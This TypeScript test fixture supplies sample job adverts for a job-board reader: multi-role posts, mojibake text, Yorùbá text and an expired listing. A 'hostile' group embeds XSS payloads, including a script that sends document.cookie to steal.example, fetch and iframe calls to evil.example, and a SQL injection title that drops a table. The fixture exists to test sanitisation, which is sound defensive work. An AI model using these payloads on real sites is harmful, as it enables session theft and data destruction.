import { byHand } from '../by-hand.ts'
import { list, raw, text, type Undated } from '../posted.ts'
import { placeNamed } from './places.ts'

// What boards really send now and then: several roles in one advert, broken letters, markup of people who try.

const lagos = placeNamed('Lagos')

const several: readonly Undated[] = [
  byHand('myjobmag', {
    title: 'Nurses, Doctors and Pharmacists',
    company: 'Cedarcrest Women and Children Hospital',
    place: placeNamed('Abuja'),
    field: 'health',
    roles: ['Registered Nurse', 'Medical Officer', 'Pharmacist', 'Medical Records Officer'],
    openings: 4,
    age: 3_050,
    lasts: 21,
    body: [
      text('Cedarcrest opens a new wing in Abuja, and recruits to fill the positions below.'),
      list('Positions', ['Registered Nurse', 'Medical Officer', 'Pharmacist', 'Medical Records Officer']),
      text(
        'Clinical staff need a current licence of their council and at least two years of practice. Records officers need OND in Health Information Management. Shifts are planned six weeks ahead, and housing is offered to those who move to Abuja for the work.',
      ),
      text('State the position in the subject of your mail to careers@cedarcrestwch.example.'),
    ],
  }),
  byHand('myjobmag', {
    title: 'Teachers for the New Session',
    company: 'Brightstead Schools',
    place: placeNamed('Abeokuta'),
    field: 'education',
    roles: [
      'Mathematics Teacher',
      'English Teacher',
      'Basic Science Teacher',
      'Music Teacher',
      'Sports Coach',
    ],
    openings: 5,
    age: 7_700,
    lasts: 30,
    body: [
      text('Brightstead recruits teachers for its boarding school in Abeokuta from the next term.'),
      list('Positions', [
        'Mathematics Teacher',
        'English Teacher',
        'Basic Science Teacher',
        'Music Teacher',
        'Sports Coach',
      ]),
      text(
        'A degree in the subject, TRCN registration and two years of teaching are required; coaches need a certificate of their federation. Single rooms on the compound are free. We test subject knowledge in writing and ask each candidate to teach one lesson.',
      ),
    ],
  }),
]

const scrambled: readonly Undated[] = [
  byHand('myjobmag', {
    title: 'Head of Operations at Large Events',
    company: 'Marina Bay Suites',
    place: placeNamed('Victoria Island, Lagos'),
    level: 'senior',
    age: 5_300,
    body: `You will run the companyâ€™s weddings and conferences from the first enquiry to the last invoice â€“ about ninety a year. CafÃ© and rooftop are yours on event days.

Seven years in banqueting, a steady hand with vendors and a good eye for a seating plan are what we look for. You know what a generator does at nine in the evening, and what a band does at eleven.

Weekends are working days; you take two others. Pay is agreed in the interview, and there is a share in the profit of each event.`,
  }),
  byHand('remoteok', {
    title: 'Customer Success Manager â€“ Africa',
    company: 'Nimbus Desk',
    workplace: 'remote',
    openTo: ['Africa'],
    field: 'service',
    age: 4_150,
    body: `Youâ€™ll look after forty customers between Dakar and Nairobi: onboarding, questions, renewals. We donâ€™t call; we write.

You have three years with a software company, know Zendesk or Intercom from the inside, and can say no kindly. French is a plus.

Pay is the same wherever you live. We meet once a year, flights paid.`,
  }),
]

const hostile: readonly Undated[] = [
  byHand('hotnigerianjobs', {
    title: 'Store Keeper <script>alert("title")</script>',
    company: 'Oakpalm Beverages',
    place: placeNamed('Benin City'),
    field: 'logistics',
    level: 'entry',
    age: 1_380,
    body: [
      text('Oakpalm keeps its raw materials in Benin City, and needs a store keeper who counts twice.'),
      raw(
        '<script>document.location="https://steal.example/?c="+document.cookie</script><p onclick="alert(1)">You will receive sugar, concentrate and crown corks, issue them against requisitions and keep the bin cards. </p>',
      ),
      text(
        'OND in Purchasing and Supply, two years in a factory store and good handwriting are required. You work from Monday to Saturday in the morning shift. Lunch and a staff bus are free.',
      ),
    ],
  }),
  byHand('remotive', {
    title: 'Support Engineer <img src=x onerror=alert(1)>',
    company: 'Stackhouse Hosting',
    workplace: 'remote',
    openTo: ['EMEA'],
    field: 'technology',
    age: 2_260,
    body: [
      text('Stackhouse hosts web sites for associations, and helps them when they are stuck.'),
      raw(
        '<style>*{display:none!important} .apply{position:fixed;inset:0}</style><a class="apply" href="javascript:alert(document.domain)">Apply here</a><svg onload=alert(2)></svg>',
      ),
      text(
        'You solve tickets on DNS, mail and WordPress, write down what you learned, and take one on-call week in seven. Linux, patience and clear English are what counts; two years of hosting support are enough.',
      ),
    ],
  }),
  byHand('remoteok', {
    title: 'QA Analyst"><svg/onload=alert(3)>',
    company: 'Fieldnote <b onmouseover=alert(4)>Ltd</b>',
    workplace: 'remote',
    openTo: ['Worldwide'],
    field: 'technology',
    age: 3_900,
    body: [
      text(
        'Fieldnote needs somebody who breaks an offline app on purpose, before a surveyor does it by accident.',
      ),
      raw(
        '<iframe src="https://evil.example/login"></iframe><img src="x" onerror="fetch(`https://evil.example`)">',
      ),
      text(
        'You plan tests for sync conflicts, flaky lines and full disks, automate what repeats, and report so that nobody has to ask. Three years of testing mobile apps; some TypeScript.',
      ),
    ],
  }),
  byHand('jobicy', {
    title: 'Copy Editor',
    company: 'Paperkite',
    workplace: 'remote',
    openTo: [],
    field: 'writing',
    age: 5_050,
    body: [
      raw(
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(https://evil.example/x.png)">Paperkite edits annual reports in British English.</div>',
      ),
      text(
        'You cut a third of every text without losing a fact, query figures that do not add up, and keep the house style. A test of one page is paid. Ten hours a week, with more in spring.',
      ),
    ],
    type: 'part-time',
  }),
  byHand('boqqs', {
    title: "Accounts Clerk'); DROP TABLE jobs;--",
    company: 'Kalu & Sons Kitchens',
    place: placeNamed('Owerri'),
    field: 'finance',
    level: 'entry',
    age: 6_900,
    body: `Kalu & Sons needs an accounts clerk for its kitchen in Owerri. You post sales and purchases, match delivery notes to invoices & chase what is missing; profit > loss, as we say.

OND in Accountancy and one year with cash books are required. The market is at your door, and lunch comes from the kitchen.`,
  }),
]

const rest: readonly Undated[] = [
  byHand('hotnigerianjobs', {
    title: 'House Help',
    company: '',
    place: placeNamed('Lekki, Lagos'),
    field: 'hospitality',
    level: 'entry',
    age: 2_050,
    body: `A family of five in Lekki wants a live-in house help for cleaning, laundry and simple meals. Two school children are to be met at the gate at half past two.

Room, meals and one free day a week, with every second Sunday off. The pay is agreed with you and written down.

You bring a reference of your last family and a health certificate. Couples are welcome where the husband can look after garden and generator.`,
  }),
  byHand('myjobmag', {
    title: 'C++ / C# Developer (.NET 8), R&D',
    company: 'Northbridge Telecoms',
    place: placeNamed('Yaba, Lagos'),
    field: 'technology',
    workplace: 'hybrid',
    tags: ['C++', 'C#', '.NET'],
    age: 1_120,
    lasts: 18,
    body: `Northbridge writes its own network probes, and needs a developer who knows where the bytes are. The R&D team has six people and one rule: what is not measured is not faster.

You write C++ for the probes and C# for what reads them, profile both, and review the work of others. Three years of either language, sockets and threads without fear, and Git.

Three days in Yaba, two at home. HMO, pension, and a desk with two good screens.`,
  }),
  byHand('boqqs', {
    title: 'Cashier',
    company: 'Ọjà Supermarkets',
    place: lagos,
    field: 'sales',
    level: 'entry',
    age: 30_000,
    // Over since long ago, and still in the feed.
    lasts: 5,
    body: `Ọjà is looking for cashiers for the evening shift. You scan, pack, greet and balance your till at ten.

SSCE and a friendly face are enough; we train for a week with pay. Work is from two to ten in the evening, six days a week, and transport home is paid.`,
  }),
  byHand('himalayas', {
    title: 'Ilé Ẹ̀kọ́ Online: Yorùbá Language Tutor',
    company: 'Ọmọlúàbí Academy',
    workplace: 'remote',
    openTo: ['Nigeria'],
    type: 'part-time',
    field: 'education',
    tags: ['Teaching', 'Yorùbá'],
    age: 1_990,
    body: `Ọmọlúàbí Academy teaches Yorùbá to children of families abroad, in groups of four, by video. You plan lessons around songs, food and letters to grandmother.

You speak and write Yorùbá with its tones and dots, have taught children for a year or more, and keep your temper when the line drops. Saturdays and Sundays, eight hours in all, paid by the hour.`,
  }),
]

/** Adverts that a reader of boards has to cope with. */
export const oddPostings: readonly Undated[] = [...several, ...scrambled, ...hostile, ...rest]
